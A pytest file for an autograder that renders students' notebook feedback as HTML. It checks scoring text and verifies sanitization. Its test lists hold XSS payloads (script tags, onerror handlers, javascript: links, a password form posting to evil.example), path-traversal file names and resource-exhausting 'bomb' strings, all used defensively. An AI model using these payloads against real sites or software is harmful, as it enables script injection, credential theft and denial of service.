"""The feedback pages: what they say, and that nothing a student writes gets out of its box."""

from __future__ import annotations

import base64
import itertools
import re
import time
from html.parser import HTMLParser

import pytest
from sample_results import (
    SAYS,
    SET,
    SOLUTION,
    TEST,
    WRITTEN,
    a_result,
    attention_png,
    code_cell,
    example_class,
    exercise_of,
    shown,
    spoil,
    stream,
    text_cell,
    with_misconception,
)

from autograder import files
from autograder.html import feedback
from autograder.html import sanitize as pages
from autograder.results import VERDICTS, Check, Exercise, Manual, Misconception

_WORDS = """
html head meta title style body svg symbol circle path rect use a main header footer section div p span strong em del
code pre h1 h2 h3 dl dt dd table caption thead tbody tr th td ul ol li details summary figure figcaption img br hr
blockquote
"""
TAGS = set(_WORDS.split())


class Page(HTMLParser):
    """A page read back: every tag with its attributes, the text outside style, and whether all tags are closed."""

    VOID = ("meta", "img", "br", "hr", "input")

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.pieces: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        assert len(dict(attrs)) == len(attrs), f"an attribute twice in {tag}"
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert self.open and self.open.pop() == tag

    def handle_data(self, data):
        if self.open[-1:] != ["style"]:
            self.pieces.append(data)

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", "".join(self.pieces))


def read(html: str) -> Page:
    """The page read back, after the promises that hold for every page."""
    page = Page(html)
    html.encode("utf-8")
    ids = [a["id"] for _, a in page.tags if "id" in a]
    assert len(ids) == len(set(ids))
    for tag, attributes in page.tags:
        assert tag in TAGS
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in (
                "style",
                "srcset",
                "action",
                "formaction",
                "ping",
            )
            if name == "href":
                assert re.match(r"(#[\w-]+|https?://|mailto:)", value or ""), value
                assert not value.startswith("#") or value[1:] in ids
            if name == "src":
                assert re.fullmatch(r"data:image/png;base64,[A-Za-z0-9+/]+=*", value)
            if name in ("aria-labelledby", "aria-describedby"):
                assert value in ids
    style = re.search(r"<style>(.*?)</style>", html, re.DOTALL)[1]
    assert "url(" not in style and "@import" not in style
    levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b <= a + 1 for a, b in itertools.pairwise(levels))
    return page


def only(*cells, exercise=None):
    """A result whose notebook holds these cells, all belonging to one written exercise unless told otherwise."""
    exercise = exercise or Exercise("answer", "Title", 2, kind="written")
    return a_result(exercises=[exercise], notebook={"cells": list(cells)})


def test_every_page_of_the_class_is_sound_and_names_student_and_set():
    for result in example_class():
        page = read(feedback.render(result))
        assert result.student in page.text and SET in page.text


def test_score_checks_reasons_and_misconceptions_are_told():
    result = with_misconception(a_result(), "divided_by_d_k")
    page = read(feedback.render(result))
    assert "14 / 19 points from checks" in page.text
    assert "Written answers: to be marked (5 points more)" in page.text
    assert "What we saw" in page.text
    assert SAYS["divided_by_d_k"][1].replace("`", "") in page.text
    for exercise in result.exercises:
        for check in exercise.checks:
            assert check.name in page.text and check.reason in page.text
    assert "0 of 2 points" in page.text and "2 of 2 points" in page.text


@pytest.mark.parametrize("word", VERDICTS)
def test_each_verdict_is_a_word_and_an_icon(word):
    html = feedback.render(spoil(a_result(), "cross", word, "because"))
    kind = {"out of memory": "memory", "not reached": "unreached"}.get(word, word)
    assert re.search(rf'<use href="#icon-{kind}"/></svg>{word}</span>', html)
    assert "because" in read(html).text


def test_points_of_a_check_are_its_part_of_the_cell():
    exercise = Exercise("x-tests", "X", 6, score=2, checks=[Check("a", 1, "passed"), Check("b", 2, "failed", "no")])
    assert "2 of 2 points" in read(feedback.render(a_result(exercises=[exercise]))).text
    assert "0 of 4 points" in read(feedback.render(a_result(exercises=[exercise]))).text


def test_manual_scores_and_comments():
    result = a_result()
    manual = {"gradient-answer": Manual(1.5, "Almost: *why* none?"), "why-answer": Manual(3)}
    page = read(feedback.render(result, manual))
    assert "23.5 / 24 points" in page.text and "to be marked" not in page.text
    assert "Almost: why none?" in page.text and "<em>why</em>" in feedback.render(result, manual)
    half = read(feedback.render(result, {"gradient-answer": Manual(0, "no")}))
    assert "19 / 21 points so far" in half.text and "(3 points more)" in half.text


def test_a_comment_without_points_is_shown_and_still_to_be_marked():
    page = read(feedback.render(a_result(), {"why-answer": Manual(None, "See me.")}))
    assert "See me." in page.text and "to be marked / 3" in page.text


def test_a_score_by_hand_replaces_the_checks_and_says_so():
    result = with_misconception(a_result(), "divided_by_d_k")
    page = read(feedback.render(result, {"scaled-dot-product-attention-tests": Manual(4)}))
    assert "Marked by hand; the checks alone gave 1 point." in page.text and "17 / 19" in page.text


def test_follow_through_is_explained():
    result = a_result()
    exercise_of(result, "self-attention").follow_through = ["scaled_dot_product_attention"]
    text = read(feedback.render(result)).text
    assert (
        "Judged again with our scaled_dot_product_attention in place of yours, because yours did not pass its own "
        "checks: full points were possible." in text
    )
    exercise_of(result, "self-attention").follow_through = ["softmax", "dot"]
    assert (
        "our softmax and dot in place of yours, because yours did not pass their" in read(feedback.render(result)).text
    )


def test_unreadable_and_not_submitted_are_no_zero():
    *_, unreadable, missing = example_class()
    page = read(feedback.render(unreadable))
    assert "could not be read" in page.text and unreadable.reason in page.text and "This is not a zero" in page.text
    assert "Nothing was handed in" in read(feedback.render(missing)).text
    for result in (unreadable, missing):
        assert not re.search(r"\d\s*/\s*\d|0 points", read(feedback.render(result)).text)


def test_a_status_from_the_future_is_no_zero():
    result = a_result(status="withdrawn", reason="asked for")
    result.exercises = []
    assert "no score: withdrawn" in read(feedback.render(result)).text


def test_another_id_is_flagged_and_the_own_one_is_not():
    assert "Check your id" in read(feedback.render(a_result(typed_id="student-99"))).text
    assert "Check your id" not in read(feedback.render(a_result())).text
    assert "Check your id" not in read(feedback.render(a_result(typed_id=None))).text


def test_notes_and_missing_answers_are_told():
    result = a_result(notes=["Your file was called `ps2 (1).ipynb`."])
    result.exercises[0].answered = False
    page = read(feedback.render(result))
    assert "Your file was called ps2 (1).ipynb." in page.text and "left this exercise unanswered" in page.text


def test_cells_stand_with_their_exercise_in_order_and_locked_ones_are_left_out():
    html = feedback.render(a_result())
    page = read(html)
    assert "The task of the exercise" not in page.text and "define it" not in page.text
    section = html[html.index('id="exercise-4"') : html.index('id="exercise-5"')]
    assert section.index("scaled_dot_product_attention") < section.index("imshow")
    assert "data:image/png" in section
    rest = html[html.index('id="rest"') :]
    assert "student_id" in rest and "ZeroDivisionError" in rest


def test_a_locked_cell_with_an_output_is_shown():
    cell = code_cell("plot_attention(weights)", "plot", [stream("drawn")], grade=False, solution=False, locked=True)
    assert "Given cell" in read(feedback.render(only(cell))).text


def test_hidden_tests_do_not_appear_even_if_a_result_holds_them():
    source = "assert f\n### BEGIN HIDDEN TESTS\nsecret_check()\n### END HIDDEN TESTS\n"
    html = feedback.render(only(code_cell(source, "t", [stream("out")], **TEST)))
    assert "secret_check" not in html and "HIDDEN TESTS" not in html
    assert "secret_check" not in feedback.render(
        only(code_cell("### BEGIN HIDDEN TESTS\nsecret_check()", "t", [stream("out")], **TEST))
    )


def test_a_result_without_notebook_or_with_a_strange_one():
    for notebook in (
        None,
        {},
        {"cells": None},
        {"cells": [None, 3, "x", {}, {"cell_type": "code", "outputs": {}}]},
        {"cells": [{"cell_type": "code", "source": 7, "outputs": [None, {"output_type": 3}], "id": []}]},
        {"cells": [{"cell_type": "odd", "source": ["a", "b"], "metadata": 5}]},
    ):
        read(feedback.render(a_result(notebook=notebook)))


# --- hostile ---------------------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</style><script>alert(1)</script><style>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<form action=http://evil.example><input name=password></form>",
    "<!-- --!> <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{ 7 * 7 }} {% raw %} {{ config }}",
    "\ud800 lone surrogate \udfff",
    "\u202eevil\u202c \x00\x07\x1b[2J\x1b]0;title\x07",
    "&lt;script&gt; &#x3c;script&#x3e;",
]
HOSTILE_MARKDOWN = [
    *HOSTILE,
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x 'title')",
    "[click](//evil.example/x)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![track](http://evil.example/pixel.png)",
    '![x"onerror="alert(1)](http://evil.example/pixel.png)',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a]: javascript:alert(1)\n\n[a]",
    '[x](http://a.example/"onclick="alert(1))',
    "`<script>alert(1)</script>` $<script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
    '```html"><script>alert(1)</script>\n<b>\n```',
    "| <script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | c |",
    "# <script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<h1 id=exercise-1>Score: 100</h1>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text_everywhere(text):
    result = a_result(
        student=text,
        assignment=text,
        typed_id=text + "x",
        notes=[text],
        events=[text],
        graded_at=text,
        grader_version=text,
        assignment_version=text,
        exercises=[
            Exercise(
                text,
                text,
                2,
                score=1,
                checks=[Check(text, 1, "failed", text), Check(text, 1, text, text)],
                misconceptions=[Misconception(text, text, text)],
                follow_through=[text],
                solution_ids=[text],
                figures=[{"png": attention_png(), "alt": text}, {"png": text, "alt": text}],
            ),
            Exercise("answer", text, 2, kind="written"),
        ],
        notebook={
            "cells": [
                text_cell(f"# {text}", text),
                {"cell_type": text, "source": text, "id": text, "metadata": {"nbgrader": {"grade_id": text}}},
                code_cell(
                    text,
                    text,
                    [
                        stream(text),
                        stream(text, name=text),
                        shown(text_plain=text, text_html=text, image_png=text),
                        shown(text_html=text, **{"image_svg+xml": text, "application_javascript": text}),
                        {"output_type": "display_data", "data": {text: text}},
                        {"output_type": "execute_result", "data": {"text/plain": [text, text]}},
                        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
                        {"output_type": "error", "ename": text, "evalue": text, "traceback": text},
                        {"output_type": text, "data": text},
                    ],
                    **SOLUTION,
                ),
                {
                    **text_cell(text, "answer", **WRITTEN),
                    "attachments": {text: {"image/png": text}, "x": {text: text}},
                },
            ]
        },
    )
    page = read(feedback.render(result, {"answer": Manual(1, text)}))
    assert "\x1b" not in page.text and "\u202e" not in page.text and "49" not in page.text
    for status in ("unreadable", "not submitted", text):
        read(feedback.render(a_result(status=status, reason=text, student=text)))


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_hostile_markdown_is_disarmed(text):
    page = read(feedback.render(only(text_cell(text, "answer", **WRITTEN)), {"answer": Manual(1, text)}))
    assert not any(tag == "img" for tag, _ in page.tags)


def test_markdown_shows_what_was_meant():
    text = (
        "*a* **b** `c` [d](https://example.org/?a=1&b=2)\n\n- $x_1 * x_2 * x_3$\n\n> q\n\n"
        "| h |\n|---|\n| v |\n\n$$\na_b_c\n$$"
    )
    html = str(pages.markdown(text))
    for piece in (
        "<em>a</em>",
        "<strong>b</strong>",
        "<code>c</code>",
        'href="https://example.org/?a=1&amp;b=2"',
        '<span class="math">$x_1 * x_2 * x_3$</span>',
        "<blockquote>",
        "<td>v</td>",
        "a_b_c",
    ):
        assert piece in html
    assert "<h1" not in str(pages.markdown("# Title"))


def test_a_picture_pasted_into_an_answer_is_shown():
    cell = {
        **text_cell("![work](attachment:work.png)", "answer", **WRITTEN),
        "attachments": {"work.png": {"image/png": attention_png()}, "b.jpg": {"image/jpeg": "x"}},
    }
    page = read(feedback.render(only(cell)))
    assert sum(tag == "img" for tag, _ in page.tags) == 1
    assert "[picture: work]" in page.text and "b.jpg is not shown" in page.text


def png(width=1, height=1):
    """A PNG which says it has this size; the grader looks at structure, not at pixels."""
    size = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    return b"".join(
        [
            b"\x89PNG\r\n\x1a\n",
            b"\0\0\0\rIHDR",
            size,
            b"\x08\0\0\0\0" + b"crc!",
            b"\0\0\0\x02IDATxxcrc!",
            b"\0\0\0\0IENDcrc!",
        ]
    )


def test_png_is_looked_at():
    good = base64.b64encode(png(3, 2)).decode()
    assert pages.checked_png(good)[1:] == (3, 2)
    assert pages.checked_png([good[:20] + "\n", good[20:]])[0] == good
    # Whatever is hidden behind the picture's end is cut off.
    trailing = base64.b64encode(png(3, 2) + b"<script>").decode()
    assert pages.checked_png(trailing)[0] == good


@pytest.mark.parametrize(
    ("data", "why"),
    [
        ("not base64!", "damaged"),
        ("iVBORw0KGgo", "damaged"),
        ("", "not a PNG"),
        (None, "not a PNG"),
        (5, "not a PNG"),
        ("\ud800é", "damaged"),
        (base64.b64encode(b"<svg onload=alert(1)>").decode(), "not a PNG"),
        (base64.b64encode(b"GIF89a" + b"\0" * 60).decode(), "not a PNG"),
        (base64.b64encode(png()[:-8]).decode(), "cut off"),
        (base64.b64encode(png()[:33]).decode(), "cut off"),
        (base64.b64encode(png(100_000, 100_000)).decode(), "100000 × 100000"),
        (base64.b64encode(png(0, 5)).decode(), "0 × 5"),
        ("A" * 10_000_000, "larger"),
    ],
)
def test_bad_pictures_leave_a_remark(data, why):
    html = feedback.render(only(code_cell("x", "answer", [shown(image_png=data)])))
    assert "A picture is not shown" in read(html).text and why in read(html).text and "<img" not in html


def test_long_outputs_are_cut_and_say_so():
    page = read(feedback.render(only(code_cell("x", "a", [stream("start" + "x" * 5_000_000 + "end")]))))
    assert "characters in the middle were left out" in page.text and "start" in page.text and "xend" in page.text
    assert len(page.text) < 3 * feedback.TEXT_CHARACTERS


def test_many_outputs_and_many_cells_stay_within_the_page():
    many = [shown(text_plain=f"output {i}") for i in range(5_000)]
    html = feedback.render(only(code_cell("x", "a", many)))
    assert f"{5_000 - feedback.OUTPUTS_PER_CELL:,} more outputs" in html
    cells = [code_cell("y" * 90_000, f"c{i}", [stream("z" * 20_000)]) for i in range(200)]
    html = feedback.render(only(*cells))
    assert len(html) < 3 * feedback.PAGE_CHARACTERS and "this page is long enough" in html
    pictures = [code_cell("p", f"p{i}", [shown(image_png=base64.b64encode(png()).decode())]) for i in range(20)]
    assert feedback.render(only(*pictures)).count("<img") == 20


def test_pictures_have_a_budget():
    budget = feedback._Budget(pictures=200)
    data = base64.b64encode(png()).decode()
    kinds = [feedback._figure(data, "", budget)["kind"] for _ in range(5)]
    assert kinds[0] == "picture" and kinds[-1] == "remark"


def test_streams_are_joined_and_progress_bars_end_where_they_ended():
    bars = [stream(f"\r{i} %", name="stderr") for i in range(100)]
    page = read(feedback.render(only(code_cell("x", "a", [stream("a"), stream("b\n"), *bars, stream("c")]))))
    assert "ab" in page.text and "99 %" in page.text and "98 %" not in page.text


def test_terminal_colours():
    html = str(pages.terminal("\x1b[1;31mred & bold\x1b[0m plain \x1b[38;5;2mgreen\x1b[39m \x1b[38;2;1;31;4mx\x1b[0m"))
    assert html == ('<span class="ansi-bold ansi-1">red &amp; bold</span> plain <span class="ansi-2">green</span> x')
    assert str(pages.terminal("a\x1b[2J\x1b[10;10Hb\x1b]8;;http://x\x07c\x1b]8;;\x1b\\d\x1b(Be\x1b")) == "abcde"
    assert str(pages.terminal("one\rtwo\r\nthree")) == "two\nthree"


BOMBS = {
    "colours": "\x1b[31mx\x1b[0m" * 300_000,
    "unclosed": "\x1b[" + "0;" * 500_000,
    "escapes": "\x1b" * 1_000_000,
    "osc": "\x1b]" * 500_000,
    "returns": "x\r" * 500_000,
    "one long line": "x" * 2_000_000,
    "huge numbers": "\x1b[" + "9" * 100_000 + "m",
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_terminal_bombs_cost_little(bomb):
    start = time.process_time()
    html = feedback.render(
        only(
            code_cell(
                "x",
                "a",
                [
                    stream(BOMBS[bomb]),
                    {"output_type": "error", "ename": "E", "evalue": "", "traceback": [BOMBS[bomb]]},
                ],
            )
        )
    )
    assert time.process_time() - start < 2
    assert len(html) < 400_000
    read(html)


SOURCE_BOMBS = {
    "quotes": "'" * 100_000,
    "triple": '"""' * 30_000,
    "brackets": "[" * 100_000,
    "braces in f-string": "f'" + "{" * 29_000,
    "backslashes": "'" + "\\" * 29_000,
    "decorators": "@" * 29_000,
    "stars": "*" * 20_000,
    "stars with words": "*a " * 6_000,
    "underscores": "_a" * 10_000,
    "quoted": "> " * 9_000,
    "lists": "\n".join("  " * i + "- x" for i in range(150)),
    "links": "[" * 10_000 + "](" * 4_000,
    "images": "![" * 9_000,
    "ticks": "".join("`" * i + " " for i in range(150)),
    "dollars": "$a " * 6_000,
    "dollar pairs": "$$" * 9_000,
    "dollar tick": "$`" * 9_000,
    "tables": "|a" * 4_000 + "\n" + "|-" * 4_000 + "\n",
    "html": "<a " * 6_000,
    "comments": "<!--" * 5_000,
    "entities": "&" * 19_000,
    "tildes": "~~a" * 6_000,
    "references": "[a]: <" * 3_000,
    "headings": "#" * 19_000,
    "blank lines": " \n" * 15_000,
    "bars in lines": "a" + "|\n" * 9_990,
}


@pytest.mark.parametrize("bomb", SOURCE_BOMBS)
def test_source_bombs_cost_little(bomb):
    text = SOURCE_BOMBS[bomb]
    for cell in (code_cell(text, "a"), text_cell(text, "answer", **WRITTEN)):
        start = time.process_time()
        read(feedback.render(only(cell)))
        assert time.process_time() - start < 4, cell["cell_type"]


def test_nbconverts_pages_are_bounded_too():
    """Formgrader and nbgrader's feedback, with the settings that `configure` makes."""
    from nbconvert.exporters import HTMLExporter
    from nbformat import v4
    from traitlets.config import Config

    from autograder.nbgrader_plugin import configure

    config = Config()
    configure(config)
    cells = [
        v4.new_code_cell(" \n" * 15_000 + "x = 1"),
        v4.new_markdown_cell("a" + "|\n" * 9_990),
        v4.new_code_cell("y = 2"),
    ]
    start = time.perf_counter()
    html, _ = HTMLExporter(config=config).from_notebook_node(v4.new_notebook(cells=cells))
    assert time.perf_counter() - start < 10
    assert "x = 1" in html and re.search(r'<span class="n">y</span>\s*<span class="o">=</span>', html)


# --- files -----------------------------------------------------------------------------------------------------------


def test_pages_are_written_where_nbgrader_puts_them(tmp_path):
    seen = []
    written = feedback.write_all(iter(example_class()), tmp_path, done=seen.append)
    assert written.problems == [] and len(written.paths) == 15 and seen == written.paths
    path = tmp_path / "student-01" / SET / f"{SET}.html"
    assert path in written.paths and "student-01" in path.read_text(encoding="utf-8")
    assert not list(tmp_path.rglob("*.part"))


def test_manual_marks_reach_the_right_page(tmp_path):
    feedback.write_all([a_result("a"), a_result("b")], tmp_path, {("a", SET): {"why-answer": Manual(2.5, "Fine.")}})
    assert "Fine." in (tmp_path / "a" / SET / f"{SET}.html").read_text()
    assert "Fine." not in (tmp_path / "b" / SET / f"{SET}.html").read_text()


@pytest.mark.parametrize(
    "name",
    [
        "",
        ".",
        "..",
        "../x",
        "a/b",
        "a\\b",
        "/etc",
        "x\0y",
        "a\nb",
        ".hidden",
        "x" * 300,
        "\u202egnp",
    ],
)
def test_unsafe_names_are_refused_and_the_class_goes_on(name, tmp_path):
    folder = tmp_path / "feedback"
    written = feedback.write_all([a_result(name), a_result("ok"), a_result("ok", assignment=name)], folder)
    assert len(written.paths) == 1 and len(written.problems) == 2
    assert all("cannot be the name" in p and "\0" not in p for p in written.problems)
    assert [p.name for p in tmp_path.iterdir()] == ["feedback"] and [p.name for p in folder.iterdir()] == ["ok"]


@pytest.mark.parametrize(
    "name", ["anna maria", "José", "O'Brien", 'Ann "Z" Lee', "李", "=1+1", "a (1)", "x.y@z.org", "-rf"]
)
def test_ordinary_names_with_oddities_are_fine(name, tmp_path):
    assert feedback.write_all([a_result(name)], tmp_path).problems == []


def test_a_page_that_cannot_be_written_is_named_and_the_old_one_stays(tmp_path, monkeypatch):
    feedback.write_all([a_result("a", notes=["first"])], tmp_path)
    path = tmp_path / "a" / SET / f"{SET}.html"

    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "replace", full)
    written = feedback.write_all([a_result("a", notes=["second"])], tmp_path)
    assert written.paths == [] and "No space left" in written.problems[0] and "a (" in written.problems[0]
    assert "first" in path.read_text() and [p.name for p in path.parent.iterdir()] == [path.name]
